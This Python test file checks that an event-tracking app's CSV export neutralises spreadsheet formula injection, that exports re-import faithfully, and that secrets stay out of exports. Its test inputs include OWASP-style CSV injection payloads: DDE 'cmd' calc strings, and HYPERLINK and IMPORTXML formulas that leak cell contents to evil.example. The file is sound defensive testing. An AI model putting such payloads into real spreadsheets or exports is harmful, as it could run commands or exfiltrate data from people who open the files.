"""What is taken along: cells that no spreadsheet runs, and files that an import reads back as they were."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as some
from sqlalchemy import Connection, Engine
from tests.new_database import new_database

from tidings.domain import applications, event_types, goals, imports, webhooks
from tidings.domain.directory import Entry, read_entry
from tidings.domain.events import new_event, record
from tidings.errors import NotFound
from tidings.outbound.guard import Guard
from tidings.records.event import CustomField, Event, EventDraft
from tidings.records.event_type import EventTypeDraft
from tidings.records.goal import GoalDraft
from tidings.records.imports import NewImport
from tidings.records.webhook import WebhookDraft
from tidings.storage.engine import writing_engine
from tidings.storage.event_lists import newest_events
from tidings.surfaces.exports import csv_lines, events_csv, everything, safe_cell
from tidings.surfaces.formulas import guarded, unguarded
from tidings.surfaces.import_columns import guess
from tidings.surfaces.import_files import FileRows
from tidings.surfaces.import_rows import row_draft

NOW = 1_800_000_000_000
# What OWASP lists under "CSV Injection", and what tools for testing it send.
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t1+1", "\r1+1", "\n1+1", "\uff1d1+1",
    "\uff0b1", "\uff0d1", "\uff20SUM(1)", '=HYPERLINK("http://evil.example?x="&A1,"Error")', "=1+1\";1+1", "'=1+1", "''@x",
    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")', "-2+3+cmd|' /C calc'!D2", "+49 30 1234",
)  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert cell == f"'{text}"


# Where a reader with another separator than ours takes a cell to begin.
INSIDE = {
    "x;=cmd|' /C calc'!A0": "x;'=cmd|' /C calc'!A0",
    'x;"=1': "x;\"'=1",
    "x\t@SUM(1)": "x\t'@SUM(1)",
    "x|+1": "x|'+1",
    "x\n-1": "x\n'-1",
    "x\r\n=1": "x\r'\n'=1",
    "\t=1": "'\t'=1",
    ";;=1;'=1": ";;'=1;''=1",
}


@pytest.mark.parametrize("text", INSIDE)
def test_no_part_of_a_cell_begins_one_either(text: str) -> None:
    assert safe_cell(text) == INSIDE[text]
    assert unguarded(INSIDE[text]) == text


SIGNS = some.text(some.sampled_from(";\t|\r\n\"'=+-@ a,\uff1d"), max_size=12)


@given(SIGNS)
def test_what_is_guarded_is_given_back(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(some.lists(SIGNS, min_size=2, max_size=3), some.sampled_from(";\t|,"))
def test_no_reader_finds_a_formula(values: list[str], separator: str) -> None:
    content = b"".join(csv_lines(["id", *"abc"[: len(values)]], [(1, *values)])).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(content, newline=""), delimiter=separator):
        assert not any(cell.startswith(tuple("=+-@\uff1d")) for cell in row), row


@pytest.mark.parametrize("value", ["Mia", "a=b", "", "O'Hara", "'quoted'", " =x", "Łódź", "5"])
def test_other_text_is_as_it_is(value: str) -> None:
    assert safe_cell(value) == value


def test_numbers_and_nothing() -> None:
    assert [safe_cell(value) for value in (-5, 1.5, None, True, {"a": "=1"})] == ["-5", "1.5", "", "True", '{"a":"=1"}']


CELLS = some.text(some.characters(blacklist_categories=["Cs"], blacklist_characters="\0"), max_size=30)


@given(some.lists(some.lists(CELLS, min_size=3, max_size=3), min_size=1, max_size=8))
def test_what_is_written_is_read_as_it_was(rows: list[list[str]]) -> None:
    columns = ["row", "b", "c"]
    numbered = [[f"n{number}", *row] for number, row in enumerate(rows)]
    content = b"".join(csv_lines([*columns, "d"], numbered))
    read = FileRows(io.BytesIO(content))
    found = read.take(100)
    assert read.columns == [*columns, "d"]
    assert [[str(cell).strip() for cell in row.cells] for row in found] == [
        [cell.strip() for cell in row] for row in numbered
    ]
    assert [row.reason for row in found] == [None] * len(rows)


@pytest.fixture
def path(tmp_path: Path) -> Path:
    new_database(tmp_path / "a.db")
    return tmp_path / "a.db"


@pytest.fixture
def engine(path: Path) -> Iterator[Engine]:
    engine = writing_engine(path, checkpoints=False)
    yield engine
    engine.dispose()


DRAFTS = (
    EventDraft(
        event_type_tag="new_order",
        external_id="=o-1",
        url="https://shop.example/p/1",
        first_name="@Mia",
        city="Lisbon",
        province="Lisboa",
        country="PT",
        title='Desk, "large";-5\nwhite',
        image_url="https://shop.example/p/1.png",
        email_address="mia@people.example",
        custom_fields=(CustomField(1, "size", "-L"), CustomField(2, "größe", "")),
        created_at=NOW - 86_400_123,
    ),
    EventDraft(event_type_tag="sign_up", title="'plain", created_at=NOW - 5),
    EventDraft(event_type_tag="new_order", created_at=NOW - 7),
)


def shop(connection: Connection) -> Entry:
    created = applications.create(connection, "Shop", "https://shop.example", NOW)
    application = created.entry.application
    draft = EventTypeDraft("Sign up", "sign_up", "{{ first_name }} signed up")
    event_types.create(connection, application_id=application.id, draft=draft, now=NOW)
    return read_entry(connection, application)


def filled(engine: Engine) -> Entry:
    with engine.begin() as connection:
        entry = shop(connection)
        record(connection, [new_event(entry, draft, b"secret", NOW) for draft in DRAFTS])
        goals.create(connection, application_id=entry.application.id, draft=GoalDraft("Bought"), now=NOW)
        webhook = WebhookDraft("https://1.1.1.1/hook", secret="whsec_" + "A" * 32)
        webhooks.create(connection, application_id=entry.application.id, draft=webhook, now=NOW, guard=Guard())
        return entry


def imported(connection: Connection, content: bytes) -> list[Event]:
    """The events of a new application that a file was imported into."""
    entry = shop(connection)
    read = FileRows(io.BytesIO(content))
    rows = read.take(1_000)
    plan = guess(read.columns, rows, None, "UTC")
    new = NewImport(entry.application.id, "command", "", "export", "running", NOW, tuple(read.columns), plan)
    one = imports.begin(connection, new)
    assert imports.import_rows(connection, one, rows, NOW, imports.Ground(row_draft, b"secret")) == []
    return newest_events(connection, entry.application.id, 100)


def told(event: Event) -> tuple[object, ...]:
    values = msgspec.structs.asdict(event)
    for name in ("id", "application_id", "event_type_id", "updated_at", "provenance"):
        del values[name]
    return tuple(values.values())


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_an_import_reads_back_what_was_taken_along(engine: Engine, path: Path, kind: str) -> None:
    entry = filled(engine)
    application_id = entry.application.id
    pieces = events_csv(path, application_id) if kind == "csv" else everything(path, application_id, NOW)
    content = b"".join(pieces)
    with engine.begin() as connection:
        before = newest_events(connection, application_id, 100)
        after = imported(connection, content)
    assert [told(event) for event in after] == [told(event) for event in before]
    assert [entry.event_types[event.event_type_id].tag for event in before] == ["sign_up", "new_order", "new_order"]
    assert {event.provenance for event in after} == {"import"}


def test_json_is_read_to_the_letter(engine: Engine, path: Path) -> None:
    with engine.begin() as connection:
        entry = shop(connection)
        draft = EventDraft(
            event_type_tag="new_order", external_id="'+a", first_name="'-x", title="  '=SUM(1)\xa0", created_at=5
        )
        record(connection, [new_event(entry, draft, b"secret", NOW)])
    content = b"".join(everything(path, entry.application.id, NOW))
    with engine.begin() as connection:
        event = imported(connection, content)[0]
    assert (event.external_id, event.first_name, event.title) == ("'+a", "'-x", "  '=SUM(1)\xa0")


def test_the_csv_runs_nothing(engine: Engine, path: Path) -> None:
    content = b"".join(events_csv(path, filled(engine).application.id)).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    assert [row["first_name"] for row in rows] == ["'@Mia", "", ""]
    assert rows[0]["external_id"] == "'=o-1"
    assert "mia@" not in content


def test_everything_is_there_and_no_secret(engine: Engine, path: Path) -> None:
    entry = filled(engine)
    content = b"".join(everything(path, entry.application.id, NOW))
    lines = [json.loads(line) for line in content.splitlines()]
    names = [line["record"] for line in lines]
    assert names == ["tidings_export", "application", "event_type", "event_type", "goal", "webhook", *["event"] * 3]
    assert lines[6]["created_at"] == "2027-01-14T07:59:59.877Z"
    assert lines[6]["custom_fields"] == {"size": "-L", "größe": ""}
    for secret in (entry.application.client_secret, "whsec_", "mia@", "email_hash", "token"):
        assert secret.encode() not in content


def test_it_is_one_moment_whatever_is_written_meanwhile(engine: Engine, path: Path) -> None:
    entry = filled(engine)
    pieces = everything(path, entry.application.id, NOW)
    first = next(pieces)
    with engine.begin() as connection:
        record(connection, [new_event(entry, EventDraft(event_type_tag="new_order", title="late"), b"s", NOW)])
    content = first + b"".join(pieces)
    assert content.count(b'"record":"event"') == 3


def test_an_unknown_application_is_refused(path: Path) -> None:
    with pytest.raises(NotFound):
        next(everything(path, 7, NOW))
